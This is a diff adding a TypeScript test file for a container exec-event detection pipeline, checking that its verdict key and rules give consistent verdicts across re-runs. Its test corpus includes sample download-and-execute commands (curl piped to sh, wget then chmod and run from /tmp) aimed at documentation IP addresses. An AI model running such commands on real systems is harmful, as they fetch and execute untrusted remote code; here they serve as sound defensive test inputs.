@@ -1,0 +1,143 @@
+import { describe, expect, it } from "vitest";
+import { parseAllowlist } from "../src/detection/allowlist.js";
+import { evaluate } from "../src/detection/rule.js";
+import type { ExecEvent, Verdict } from "../src/model.js";
+import { batchJudge, verdictKey } from "../src/pipeline.js";
+import { parseMessage } from "../src/sources/index.js";
+import { session, withAncestors } from "./detection/factory.js";
+import { fieldFixtureNames, loadFieldFixture } from "./sources/field-fixtures.js";
+import { context, fixtureNames, loadMessage } from "./sources/fixtures.js";
+
+/** Every exec event the message and field fixtures parse into, plus sessions and ancestries of our own. */
+function corpus(): [string, ExecEvent][] {
+  const out: [string, ExecEvent][] = [];
+  const messages: [string, string][] = [
+    ...fixtureNames().map((name) => [name, loadMessage(name)] as [string, string]),
+    ...fieldFixtureNames().flatMap((name) =>
+      loadFieldFixture(name).lines.map((line, i) => [`${name}:${i + 1}`, line] as [string, string]),
+    ),
+  ];
+  for (const [name, message] of messages) {
+    const outcome = parseMessage(message, context());
+    if (outcome.kind !== "events") continue;
+    outcome.events.forEach((event, i) => {
+      out.push([`${name}#${i}`, event]);
+    });
+  }
+  out.push(["session sh -c curl|sh", session("sh", "-c", "curl -s http://203.0.113.5/x | sh")]);
+  const nested = session("bash", "-c", "cd /tmp && wget http://198.51.100.4/a -O a && chmod +x a && ./a");
+  out.push(["session cd /tmp && wget", nested]);
+  out.push([
+    "curl under /tmp/.x/loader",
+    withAncestors(out[0]?.[1] ?? nested, [{ name: "loader", path: "/tmp/.x/loader", args: [] }]),
+  ]);
+  return out;
+}
+
+/**
+ * The same execution seen again: every field the verdict key leaves out is different (times, ids,
+ * pid, exec ids, the container id, pod, task, node, owner, labels, platform, actor, notes).
+ */
+function anotherRun(event: ExecEvent): ExecEvent {
+  const other = structuredClone(event);
+  other.time = "2031-01-02T03:04:05.000Z";
+  other.source = {
+    ...other.source,
+    eventId: "99999999999999999999",
+    logGroup: "/another/group",
+    logStream: "another-stream",
+    owner: "210987654321",
+    vouchedBy: "tetragon=*:*",
+  };
+  other.process.pid = (other.process.pid ?? 0) + 7777;
+  other.lineage = { execId: "b3RoZXI=", parentExecId: "cGFyZW50", grandparentExecId: "Z3JhbmQ=" };
+  other.container = { ...other.container, id: "f".repeat(64) };
+  other.workload = {
+    ...other.workload,
+    platform: other.workload.platform === "ecs" ? "eks" : "ecs",
+    pod: "another-pod-7d9f6c5b8-zzzzz",
+    task: "arn:aws:ecs:us-east-1:210987654321:task/another/0abc",
+    node: "ip-10-9-9-9.ec2.internal",
+    owner: { kind: "StatefulSet", name: "another" },
+    labels: { app: "another" },
+    service: "another-service",
+    family: "another-family",
+  };
+  other.sessionKey = "another-session";
+  other.actor = { user: "another", sourceIPs: ["192.0.2.9"], userAgent: "another-agent" };
+  other.notes = ["another note"];
+  return other;
+}
+
+/** A verdict without what belongs to the event it was judged for (the event itself and its pid). */
+function judged(verdict: Verdict): unknown {
+  if (verdict.kind !== "finding") return verdict;
+  const { event: _event, process, ...rest } = verdict.finding;
+  const { pid: _pid, ...processWithoutPid } = process;
+  return { ...rest, process: processWithoutPid };
+}
+
+const allowlist = parseAllowlist(
+  JSON.stringify([
+    { utility: "nmap", namespace: "payments", comment: "scanner job" },
+    { image: "*/netshoot*", maxSeverity: "critical", comment: "debug image" },
+  ]),
+  "test allowlist",
+);
+
+describe("verdict key: events with the same key get the same verdict", () => {
+  const events = corpus();
+
+  it("covers findings, benign and other verdicts", () => {
+    const kinds = new Set(events.map(([, event]) => evaluate(event).kind));
+    expect(events.length).toBeGreaterThan(40);
+    expect([...kinds].sort()).toEqual(["benign", "finding", "none"]);
+  });
+
+  it.each(events)("%s", (_name, event) => {
+    // Prepare
+    const other = anotherRun(event);
+    const options = { isAllowed: (f: Parameters<typeof allowlist.match>[0]) => allowlist.match(f) !== null };
+
+    // Act
+    const judge = batchJudge({ allowlist });
+    judge(event);
+    const remembered = judge(other);
+
+    // Assess: the key ignores what anotherRun changed, and the rule does not read it either.
+    expect(verdictKey(other)).toBe(verdictKey(event));
+    expect(judged(evaluate(other, options))).toEqual(judged(evaluate(event, options)));
+    expect(remembered).toEqual(evaluate(other, options));
+    if (remembered.kind === "finding") expect(remembered.finding.event).toBe(other);
+  });
+
+  it("tells apart events that differ in what the rule reads", () => {
+    const [, event] = events.find(([, e]) => evaluate(e).kind === "finding") ?? [];
+    if (event === undefined) throw new Error("no finding in the corpus");
+    const changes: ((e: ExecEvent) => void)[] = [
+      (e) => {
+        e.process.args = [...(e.process.args ?? []), "-o", "/tmp/x"];
+      },
+      (e) => {
+        e.process.cwd = "/tmp";
+      },
+      (e) => {
+        e.ancestors = [{ name: "sh", path: "/tmp/sh" }, ...e.ancestors];
+      },
+      (e) => {
+        e.container.image = "nicolaka/netshoot:latest";
+      },
+      (e) => {
+        e.workload.namespace = "elsewhere";
+      },
+      (e) => {
+        e.viaExecSession = !e.viaExecSession;
+      },
+    ];
+    for (const change of changes) {
+      const other = structuredClone(event);
+      change(other);
+      expect(verdictKey(other)).not.toBe(verdictKey(event));
+    }
+  });
+});
